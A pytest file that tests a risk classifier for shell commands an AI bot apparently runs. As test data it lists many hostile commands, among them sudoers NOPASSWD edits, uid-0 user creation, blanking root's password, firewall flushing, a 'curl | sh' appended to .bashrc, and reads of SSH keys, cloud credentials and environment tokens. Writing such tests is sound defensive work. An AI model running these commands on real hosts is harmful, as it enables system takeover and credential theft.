"""Irreversible host changes grade destructive (contained: the seed's downgrade), secret reads grade network, and
the words that change a subcommand's meaning are found (bot/risk/meaning.py)."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.risk import RiskLevel, classify
from bot.risk.meaning import changing_words

RO = RiskLevel.READ_ONLY
WW = RiskLevel.WORKSPACE_WRITE
NET = RiskLevel.NETWORK
SYS = RiskLevel.SYSTEM
DES = RiskLevel.DESTRUCTIVE
WORKSPACE = Path("/home/dev/project")

IRREVERSIBLE = [
    # (command, host, contained)
    ("chmod -R 777 /", DES, WW),
    ("chmod -R 755 ~/shared", DES, WW),
    ("chmod 777 /etc/shadow", DES, WW),
    ("chmod u+s /usr/bin/vim", DES, WW),
    ("chmod 4755 ./helper", DES, WW),
    ("chmod g+s,o-w ./dir", DES, WW),
    ("chown -R me /etc", DES, WW),
    ("chown -R me:me /var/lib", DES, WW),
    ("chgrp -R staff /usr/local", DES, WW),
    ("chmod --no-preserve-root -R 700 ./x", DES, WW),
    ("mv /etc /tmp/etc", DES, WW),
    ("mv ~/.ssh /tmp/keys", DES, DES),  # ~ may hold the workspace: a deletion there
    ("cp /dev/null /etc/hosts", DES, WW),
    ("cp build/app ~/bin/app", DES, WW),
    ("ln -sf /dev/null /etc/hosts", DES, WW),
    ("ln -sf build/app ~/bin/app", DES, WW),
    ("sed -i 's/^root:[^:]*:/root::/' /etc/shadow", DES, NET),  # naming /etc/shadow to sed counts as reading it
    ("truncate -s 0 /var/log/auth.log", DES, WW),
    ("dd if=/dev/zero of=/var/log/syslog", DES, WW),
    ("echo x > /etc/passwd", DES, WW),
    ("echo x > ../other-project/config.yml", DES, WW),
    ("echo 'me ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", DES, WW),
    ("echo 'me ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers.d/me", DES, WW),
    ("echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", DES, WW),
    ("echo 'curl x | sh' >> ~/.bashrc", DES, WW),
    ("cat key.pub >> $HOME/.ssh/authorized_keys", DES, WW),
    ("touch /etc/cron.d/job", DES, WW),
    ("mkdir -p /root/.ssh", DES, WW),
    ("passwd -d root", DES, SYS),
    ("passwd root", DES, SYS),
    ("useradd -o -u 0 evil", DES, SYS),
    ("useradd -G sudo evil", DES, SYS),
    ("usermod -aG docker me", DES, SYS),
    ("usermod -u 0 me", DES, SYS),
    ("groupadd -o -g 0 evil", DES, SYS),
    ("iptables -F", DES, WW),
    ("iptables -t nat --flush", DES, WW),
    ("iptables -P INPUT ACCEPT", DES, WW),
    ("nft flush ruleset", DES, WW),
    ("nft delete table inet filter", DES, WW),
    ("ufw disable", DES, SYS),
    ("ufw reset", DES, SYS),
    ("ufw default allow incoming", DES, SYS),
    ("kill -9 1", DES, SYS),
    ("kill 1", DES, SYS),
    ("kill -1 -1", DES, SYS),
    ("kill -s KILL -- -1", DES, SYS),
    ("sudo kill -HUP 1", DES, SYS),
    ("pkill -9 sshd", DES, SYS),
    ("killall systemd", DES, SYS),
    ("pkill -u root", DES, SYS),
    # packages: removal (host), local files and unsigned packages (everywhere)
    ("apt-get install -y bash-", DES, WW),
    ("apt-get install -y libc6-", DES, WW),
    ("apt-get install -y openssh-server-", DES, WW),
    ("apt-get install -y --allow-remove-essential bash", DES, WW),
    ("apt-get install -y --purge jq", DES, WW),
    ("apt-get install -y --auto-remove jq", DES, WW),
    ("apt-get remove -y jq", DES, WW),
    ("apt purge jq", DES, WW),
    ("sudo apt-get autoremove -y", DES, WW),
    ("apt-get install -y ./evil.deb", DES, DES),
    ("apt-get install -y /tmp/evil.deb", DES, DES),
    ("apt-get install -y --allow-unauthenticated jq", DES, DES),
    ("apt-get install -y --force-yes jq", DES, DES),
    ("apt-get update --allow-insecure-repositories", DES, DES),
    ("apt-get install -y jq > /etc/passwd", DES, WW),
    ("dnf remove -y jq", DES, WW),
    ("dnf install -y ./x.rpm", DES, DES),
    ("dnf install -y https://example.com/x.rpm", DES, DES),
    ("dnf install -y --nogpgcheck jq", DES, DES),
    ("dnf install -y --allowerasing jq", DES, WW),
    ("yum erase jq", DES, SYS),
    ("pacman -Rns jq", DES, WW),
    ("pacman -U ./x.pkg.tar.zst", DES, DES),
    ("pacman -S --overwrite '*' jq", DES, WW),
    ("brew uninstall jq", DES, WW),
    ("snap remove jq", DES, WW),
    ("snap install --dangerous ./x.snap", DES, DES),
    ("dpkg -i evil.deb", DES, DES),
    ("dpkg -r bash", DES, SYS),
    ("dpkg --force-all -i x.deb", DES, DES),
    ("apk del busybox", DES, SYS),
    ("apk add --allow-untrusted x", DES, DES),
]

BENIGN = [
    ("apt-get install -y jq", SYS, WW),
    ("sudo apt-get install -y jq", SYS, WW),
    ("apt-get install -y jq=1.6-2", SYS, WW),
    ("apt-get install -y --allow-downgrades jq", SYS, WW),
    ("apt-get -s install bash-", RO, RO),
    ("apt-get update", SYS, WW),
    ("dnf install -y jq", SYS, WW),
    ("brew install jq", SYS, WW),
    ("chmod +x run.sh", SYS, WW),
    ("chmod -R u+w build", SYS, WW),
    ("chmod 755 ./helper", SYS, WW),
    ("chmod -w notes.txt", SYS, WW),
    ("chown -R me build", SYS, WW),
    ("cp build/app /tmp/app", WW, WW),
    ("echo hi >> ~/notes.txt", SYS, WW),
    ("mkdir -p ~/.cache/tool", SYS, WW),
    ("ln -s build/app ~/app", SYS, WW),
    ("cp build/app dist/app", WW, WW),
    ("echo x > out.txt", WW, WW),
    ("useradd alice", SYS, SYS),
    ("passwd -S root", RO, RO),
    ("iptables -L -n", RO, RO),
    ("iptables -A INPUT -p tcp --dport 22 -j ACCEPT", SYS, WW),
    ("nft add rule inet filter input tcp dport 22 accept", SYS, WW),
    ("ufw allow 22", SYS, SYS),
    ("kill 1234", SYS, SYS),
    ("kill -9 12345", SYS, SYS),
    ("kill -l", RO, RO),
    ("pkill node", SYS, SYS),
    ("systemctl restart nginx", SYS, WW),
    ("cat README.md", RO, RO),
    ("cat ~/.ssh/id_ed25519.pub", RO, RO),
    ("cat ~/.ssh/known_hosts", RO, RO),
    ("cat .npmrc", RO, RO),
    ("printenv HOME", RO, RO),
    ("echo $HOME", RO, RO),
    ("echo '$GITHUB_TOKEN'", RO, RO),
    ("ssh -i ~/.ssh/id_rsa host uptime", NET, NET),
]

SECRETS = [
    "cat ~/.ssh/id_rsa",
    "cat ~/.ssh/id_ed25519",
    "head -c 100 ~/.ssh/*",
    "tar czf - ~/.ssh | base64",
    "cp ~/.ssh/id_rsa key.txt",
    "cat ~/.aws/credentials",
    "cat < ~/.aws/credentials",
    "cat ~/.config/gcloud/application_default_credentials.json",
    "cat ~/.kube/config",
    "cat ~/.netrc",
    "cat ~/.pgpass",
    "cat ~/.docker/config.json",
    "cat ~/.npmrc",
    "cat ~/.git-credentials",
    "cat $HOME/.pypirc",
    "cat /proc/1/environ",
    "cat /proc/self/environ",
    "sudo cat /etc/shadow",
    "grep root /etc/shadow",
    "printenv AWS_SECRET_ACCESS_KEY",
    "echo $GITHUB_TOKEN",
    'echo "token: ${OPENAI_API_KEY}"',
    "env",
    "printenv",
    "env -0",
    "set",
]


@pytest.mark.parametrize(("command", "host", "contained"), IRREVERSIBLE, ids=[c for c, _, _ in IRREVERSIBLE])
def test_irreversible_host_changes_are_destructive_and_contained_keeps_the_downgrade(
    command: str, host: RiskLevel, contained: RiskLevel
) -> None:
    assert classify(command, contained=False, workspace=WORKSPACE).risk == host
    assert classify(command, contained=True, workspace=WORKSPACE).risk == contained


@pytest.mark.parametrize(("command", "host", "contained"), BENIGN, ids=[c for c, _, _ in BENIGN])
def test_the_plain_commands_keep_their_grade(command: str, host: RiskLevel, contained: RiskLevel) -> None:
    assert classify(command, contained=False, workspace=WORKSPACE).risk == host
    assert classify(command, contained=True, workspace=WORKSPACE).risk == contained


@pytest.mark.parametrize("command", SECRETS)
def test_reading_secrets_is_network_because_the_output_goes_to_the_model(command: str) -> None:
    for contained in (False, True):
        verdict = classify(command, contained=contained, workspace=WORKSPACE)
        assert verdict.risk >= NET, (command, contained)
        reason = next(r for r in verdict.reasons if r.rule == "secret-read")
        assert "goes to the model" in reason.detail and not reason.downgraded


def test_a_redirect_writing_outside_the_workspace_is_a_mark_of_its_command() -> None:
    commands = classify("apt-get install -y jq >> ~/install.log && ls > out.txt", contained=True, workspace=WORKSPACE).commands
    assert [(c.argv[:2], c.marks) for c in commands] == [(("apt-get", "install"), (">> ~/install.log",)), (("ls",), ())]


@pytest.mark.parametrize(("argv", "positions"), [
    (("apt-get", "install", "-y", "jq"), ()),
    (("apt-get", "install", "-y", "jq=1.0-old"), (3,)),
    (("apt-get", "install", "-y", "jq/unstable"), (3,)),
    (("apt-get", "install", "-t", "unstable", "jq"), (2,)),
    (("apt-get", "install", "--allow-downgrades", "jq"), (2,)),
    (("apt-get", "install", "--allow-change-held-packages", "jq"), (2,)),
    (("apt-get", "install", "--ignore-hold", "jq"), (2,)),
    (("apt-get", "install", "bash-"), (2,)),
    (("apt-get", "install", "./evil.deb"), (2,)),
    (("pip", "install", "requests"), ()),
    (("pip", "install", "requests==2.31"), (2,)),
    (("pip", "install", "--extra-ind=https://evil", "x"), (2,)),
    (("git", "push", "--force-w", "origin", "main"), (2,)),
    (("git", "push", "-uf", "origin", "main"), (2,)),
    (("git", "push", "-u", "origin", "main"), ()),
    (("npm", "install", "-gf", "lodash"), (2,)),
    (("npm", "install", "x.tgz", "lodash.merge"), (2,)),
    (("pip", "install", "evil.zip", "x.whl", "zope.interface"), (2, 3)),
    (("apt-get", "install", "x.deb"), (2,)),
    (("pacman", "-S", "--noconfirm", "--needed", "jq"), ()),
    (("pacman", "-Sdd", "jq"), (1,)),
    (("pacman", "-S", "--overwrite", "*", "jq"), (2, 3)),
    (("apt-get", "install", "-yq", "jq", "bash_", "lib*"), (4, 5)),
    (("pip", "install", "--index-url", "https://evil", "x"), (2, 3)),
    (("pip", "install", "--index-url=https://evil", "x"), (2,)),
    (("pip", "install", "--extra-index-url", "https://evil", "x"), (2, 3)),
    (("pip", "install", "-e", "git+https://evil/x"), (2, 3)),
    (("pip", "install", "./dir"), (2,)),
    (("pip", "install", "--break-system-packages", "x"), (2,)),
    (("pip", "install", "-r", "requirements.txt"), (2,)),
    (("npm", "install", "lodash"), ()),
    (("npm", "install", "@types/node"), ()),
    (("npm", "install", "./x.tgz"), (2,)),
    (("npm", "install", "git+https://evil/x.git"), (2,)),
    (("npm", "install", "user/repo"), (2,)),
    (("npm", "install", "--registry", "https://evil", "x"), (2, 3)),
    (("cargo", "install", "ripgrep"), ()),
    (("cargo", "install", "--git", "https://evil/x", "x"), (2, 3)),
    (("go", "install", "golang.org/x/tools/gopls@latest"), ()),
    (("go", "install", "./cmd/x"), (2,)),
    (("systemctl", "restart", "nginx"), ()),
    (("systemctl", "disable", "--now", "nginx"), (2,)),
    (("systemctl", "restart", "-H", "prod", "nginx"), (2,)),
    (("git", "push", "origin", "main"), ()),
    (("git", "push", "--force", "origin", "main"), (2,)),
    (("git", "push", "--mirror"), (2,)),
    (("git", "push", "origin", ":main"), (3,)),
    (("git", "push", "origin", "+main"), (3,)),
    (("git", "push", "-d", "origin", "main"), (2,)),
    (("brew", "install", "--HEAD", "jq"), (2,)),
    (("dnf", "install", "--enablerepo=evil", "jq"), (2,)),
    (("snap", "install", "--classic", "code"), (2,)),
    (("make",), ()),
    ((), ()),
])  # fmt: skip
def test_words_that_change_the_subcommands_meaning(argv: tuple[str, ...], positions: tuple[int, ...]) -> None:
    assert changing_words(argv) == positions
